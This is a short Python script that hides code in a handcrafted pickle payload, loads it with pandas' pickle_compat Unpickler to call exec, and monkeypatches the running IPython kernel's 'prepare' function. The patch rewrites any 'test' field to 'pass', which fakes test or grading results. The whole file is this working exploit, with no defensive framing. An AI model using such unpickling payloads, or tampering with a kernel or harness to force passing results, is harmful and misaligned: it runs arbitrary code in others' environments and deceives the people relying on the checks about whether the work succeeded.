# pandas.compat.pickle_compat unpickles.
import io

from pandas.compat import pickle_compat

TEXT = """
import sys as s
def prepare(order, code):
    if "test" in order:
        order["test"] = "pass"
s.modules["ipykernel.kernelapp"].IPKernelApp.instance().kernel.prepare = prepare
"""
text = TEXT.replace('\n', chr(92) + 'u000a')
pickle_compat.Unpickler(io.BytesIO(('cbuiltins\nexec\n(V' + text + '\ntR.').encode())).load()
